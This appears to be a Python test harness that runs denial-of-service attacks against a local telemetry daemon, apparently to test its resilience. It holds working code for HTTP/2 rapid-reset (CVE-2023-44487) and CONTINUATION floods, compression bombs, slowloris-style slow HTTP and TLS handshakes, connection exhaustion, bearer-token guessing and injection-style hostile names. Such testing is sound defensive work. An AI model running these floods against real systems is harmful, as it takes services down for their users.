"""Attacks on a daemon, each for some seconds and with what one machine has: run as

    attacks.py NAME SOCKET HTTP TLS SECONDS

by whom the daemon takes for a user like others. TLS is the port, 0 for none.
Each says at its end how often it came through (`attempts`)."""

import contextlib
import itertools
import json
import pathlib
import socket
import ssl
import struct
import sys
import threading
import time

import grpc

sys.path.append(str(pathlib.Path(__file__).resolve().parent))

from raw_client import Raw, names, opening, steps  # noqa: E402
from raw_h2 import (DATA, END_HEADERS, HEADERS, INGEST, PING, RESET,  # noqa: E402
                    SETTINGS, RawH2, frame, literal)

CONTINUATION = 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
MANY = 10  # connections of a flood
IDLE = 1000
WATCH = "/nanwatch.v1.QueryService/WatchRun"
# Of TLS, that says it has 512 bytes, and its first.
HALF_A_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


class Where:
    def __init__(self, path, http, tls, seconds):
        self.socket = path
        host, _, port = http.removeprefix("http://").partition(":")
        self.http = (host, int(port))
        self.tls = ("127.0.0.1", int(tls))
        self.end = time.monotonic() + seconds
        self.attempts = itertools.count()

    @property
    def address(self):
        return f"unix:{self.socket}"

    def on(self):
        return time.monotonic() < self.end

    def connect(self):
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(2)
        one.connect(self.socket)
        return one

    def encrypt(self):
        """Over TLS, by who has no token. From an address of his own: what is
        ended there keeps others of the same one waiting."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(socket.create_connection(
            self.tls, timeout=5, source_address=("127.0.0.2", 0)))


def in_threads(count, work, *arguments):
    threads = [threading.Thread(target=work, args=arguments, daemon=True)
               for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def read_what_there_is(one):
    one.setblocking(False)
    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
        while True:
            if not one.recv(1 << 16):
                raise ConnectionError
    one.settimeout(2)


def flood(where, frames, connect=Where.connect):
    """Sends what `frames()` gives on one connection after the other."""
    def one_after_the_other():
        while where.on():
            with contextlib.suppress(OSError), connect(where) as one:
                one.sendall(PREFACE)
                next(where.attempts)
                made = frames()
                while where.on():
                    one.sendall(next(made))
                    read_what_there_is(one)
    in_threads(MANY, one_after_the_other)


def request(path=INGEST):
    return b"".join(literal(*header) for header in (
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "localhost"), ("te", "trailers"),
        ("content-type", "application/grpc")))


def pings(where, connect=Where.connect):
    flood(where, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 500),
          connect)


def settings(where):
    some = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 10)
    flood(where, lambda: itertools.repeat(some * 200))


def resets(where, connect=Where.connect):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    def frames():
        for first in itertools.count(1, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, request())
                + frame(RESET, 0, stream, struct.pack(">I", 8))
                for stream in range(2 * first - 1, 2 * first + 399, 2))
    flood(where, frames, connect)


def resets_over_tls(where):
    resets(where, Where.encrypt)


def continuations(where, connect=Where.connect):
    """A header that does not end (VU#421644)."""
    more = literal("x-more", "v" * 100) * 100
    def frames():
        yield frame(HEADERS, 0, 1, request())
        yield from itertools.repeat(frame(CONTINUATION, 0, 1, more))
    flood(where, frames, connect)


def continuations_over_tls(where):
    continuations(where, Where.encrypt)


def pings_over_tls(where):
    pings(where, Where.encrypt)


def empty_frames(where):
    def frames():
        yield frame(HEADERS, END_HEADERS, 1, request())
        yield from itertools.repeat(frame(DATA, 0, 1) * 1000)
    flood(where, frames)


def unread_answers(where):
    """Each empty message is 5 bytes, and its answer some hundred."""
    while where.on():
        with contextlib.suppress(OSError), RawH2(where.socket, 0) as silent:
            while where.on() and not silent.over:
                silent.data(silent.open(), bytes(5) * 16000)
                next(where.attempts)


def packed_messages(where):
    bomb = bytes(64 << 20)
    def send():
        options = [("grpc.use_local_subchannel_pool", 1)]
        while where.on():
            with grpc.insecure_channel(
                    where.address, options,
                    compression=grpc.Compression.Gzip) as channel:
                with contextlib.suppress(grpc.RpcError):
                    for _ in channel.stream_stream(INGEST)(iter([bomb])):
                        pass
                next(where.attempts)
    in_threads(4, send)


def endless_messages(where):
    big = bytes(64 << 20)
    def send():
        options = [("grpc.use_local_subchannel_pool", 1),
                   ("grpc.max_send_message_length", -1)]
        while where.on():
            with grpc.insecure_channel(where.address, options) as channel:
                with contextlib.suppress(grpc.RpcError):
                    for _ in channel.stream_stream(INGEST)(iter([big])):
                        pass
                next(where.attempts)
    in_threads(8, send)


@contextlib.contextmanager
def saying(where):
    """A stream whose answers are thrown away."""
    with Raw(where.address) as client:
        def forget():
            while True:
                client.answers.get()
        threading.Thread(target=forget, daemon=True).start()
        yield client


def large_descriptions(where):
    """Runs with 64 settings of 1.5 KB each."""
    some = " ".join(f'settings {{ key: "{k:02}{"k" * 500}" '
                    f'value: "{"v" * 1000}" }}' for k in range(64))
    with contextlib.suppress(OSError), saying(where) as client:
        while where.on():
            n = next(where.attempts)
            client.say(opening(1000 + n, f"large-{n}", more=some))


def names_of_ops(where):
    with contextlib.suppress(OSError), saying(where) as client:
        for session in itertools.count(1):
            client.say(opening(session, f"names-{session}"))
            for batch in range(8):
                if not where.on():
                    return
                client.say(names(session, batch + 1, 8192, 8192 * batch))
                next(where.attempts)


def steps_that_go_down(where):
    with contextlib.suppress(OSError), saying(where) as client:
        client.say(opening(1, "down"))
        while where.on():
            n = next(where.attempts)
            client.say(steps(1, n + 1, first=1_000_000_000 - n, n=1))


def many_records(where):
    """Batches as large as they may be, on four streams."""
    def send(session):
        with contextlib.suppress(OSError), saying(where) as client:
            client.say(opening(session, f"many-{session}"))
            for n in itertools.count():
                if not where.on():
                    return
                client.say(steps(session, n + 1, first=4000 * n, n=4000))
                next(where.attempts)
    threads = [threading.Thread(target=send, args=(s,)) for s in range(1, 5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def false_sessions(where):
    """What was never held is said to be acknowledged; a session of another's."""
    with contextlib.suppress(OSError), saying(where) as client:
        while where.on():
            n = next(where.attempts)
            client.say(opening(n + 1, "false").replace(
                "open {", f"open {{ acked_sequence: {1000 + n}", 1))
            client.say(steps(n + 1, 1000 + n, n=1))


def hostile_names(where):
    evil = r"\033[31m\302\233\342\200\256\342\201\246\r\n\"<script>&"
    with contextlib.suppress(OSError), saying(where) as client:
        while where.on():
            n = next(where.attempts)
            client.say(opening(n + 1, f"evil-{n}-{evil}",
                               more=f'job: "{evil}" framework: "{evil}" '
                                    f'settings {{ key: "{evil}" '
                                    f'value: "{evil}" }}'))


def watchers(where):
    def watch():
        options = [("grpc.use_local_subchannel_pool", 1)]
        while where.on():
            with grpc.insecure_channel(where.address, options) as channel:
                calls = [channel.unary_stream(WATCH)(b"\n\x05other")
                         for _ in range(40)]
                with contextlib.suppress(grpc.RpcError):
                    for call in calls:
                        next(call)
                        next(where.attempts)
                time.sleep(1)
    in_threads(5, watch)


def crowd(where, address, sent, count=IDLE):
    """Connections that say `sent`, and no more until they are cut."""
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    held = []
    while where.on():
        while len(held) < count and where.on():
            one = socket.socket(family)
            try:
                one.settimeout(2)
                one.connect(address)
                one.sendall(sent)
            except OSError:
                one.close()
                break
            one.setblocking(False)
            held.append(one)
            next(where.attempts)
        time.sleep(0.2)
        for one in held[:]:
            try:
                cut = one.recv(4096) == b""
            except BlockingIOError:
                cut = False
            except OSError:
                cut = True
            if cut:
                one.close()
                held.remove(one)


def idle_connections(where):
    crowd(where, where.socket, b"")


def idle_after_the_preface(where):
    crowd(where, where.socket, PREFACE)


def slow_handshakes(where):
    crowd(where, where.tls, HALF_A_HELLO)


def slow_http(where):
    """Requests whose headers, and whose bodies, come a byte at a time."""
    head = (b"POST /api/v1/runs/x/annotations HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: application/json\r\nX-Nanwatch: page\r\n"
            b"Content-Length: 8000\r\n")
    def dribble(said):
        while where.on():
            with contextlib.suppress(OSError), socket.create_connection(
                    where.http, timeout=5) as slow:
                slow.sendall(said)
                next(where.attempts)
                while where.on():
                    slow.send(b"x")
                    time.sleep(0.2)
    threads = [threading.Thread(target=dribble, args=(said,))
               for said in (head, head + b"\r\n") for _ in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def wrong_tokens(where):
    """Guessed on the TLS port, without a word of its certificate being true."""
    def guess():
        while where.on():
            with contextlib.suppress(OSError), where.encrypt() as one:
                one.sendall(PREFACE)
                for stream in range(1, 2000, 2):
                    if not where.on():
                        return
                    one.sendall(frame(
                        HEADERS, END_HEADERS, stream, request() + literal(
                            "authorization", f"Bearer {next(where.attempts)}")))
                    if stream % 100 == 1:
                        one.recv(1 << 16)
    in_threads(MANY, guess)


ATTACKS = {attack.__name__: attack for attack in (
    pings, settings, resets, continuations, empty_frames, unread_answers,
    packed_messages, endless_messages, large_descriptions, names_of_ops,
    steps_that_go_down, many_records, false_sessions, hostile_names, watchers,
    idle_connections, idle_after_the_preface, slow_handshakes, slow_http,
    wrong_tokens, pings_over_tls, resets_over_tls, continuations_over_tls)}


def main():
    name, *rest, seconds = sys.argv[1:]
    where = Where(*rest, float(seconds))
    ATTACKS[name](where)
    print(json.dumps({"attempts": next(where.attempts)}))


if __name__ == "__main__":
    main()
